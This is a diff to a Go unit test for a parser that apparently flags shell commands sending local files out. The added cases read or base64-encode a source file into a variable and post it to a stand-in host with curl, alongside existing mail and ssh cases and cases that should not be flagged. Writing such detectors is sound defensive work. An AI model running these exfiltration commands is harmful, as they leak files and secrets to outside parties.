@@ -30,6 +30,10 @@ func TestParseSentInputs(t *testing.T) {
 		{`cat src/a.go | mail -s x a@b.example`, []string{"{input of mail}"}},
 		{`ssh h 'cat > x' < src/a.go`, []string{"/r/src/a.go"}},
 		{`ssh -W db:5432 bastion < src/a.go`, []string{"/r/src/a.go"}},
+		// Through a variable the substitution's output was assigned to.
+		{`D=$(cat src/a.go); curl -d "$D" https://x.example`, []string{"/r/src/a.go"}},
+		{`export D="$(base64 src/a.go)"; curl "https://x.example/?q=${D}"`, []string{"/r/src/a.go"}},
+		{`D=$(cat src/a.go); if false; then D=x; fi; curl -d "$D" https://x.example`, []string{"/r/src/a.go"}},
 		// Quiet: no file read in the substitution, text not sent, a
 		// service's own post, a connection given nothing.
 		{`curl -H "Authorization: Bearer $(gcloud auth print-access-token)" https://x.example`, nil},
@@ -38,6 +42,8 @@ func TestParseSentInputs(t *testing.T) {
 		{`ssh h uptime`, nil},
 		{`ssh h 'cat x' < /dev/null`, nil},
 		{`echo "$(cat src/a.go)" > out.txt`, nil},
+		{`D=$(cat src/a.go); D=x; curl -d "$D" https://x.example`, nil},
+		{`V=$(git rev-parse HEAD); curl -d "v=$V" https://x.example`, nil},
 	}
 	for _, tt := range tests {
 		f, err := Parse(tt.command, opts)
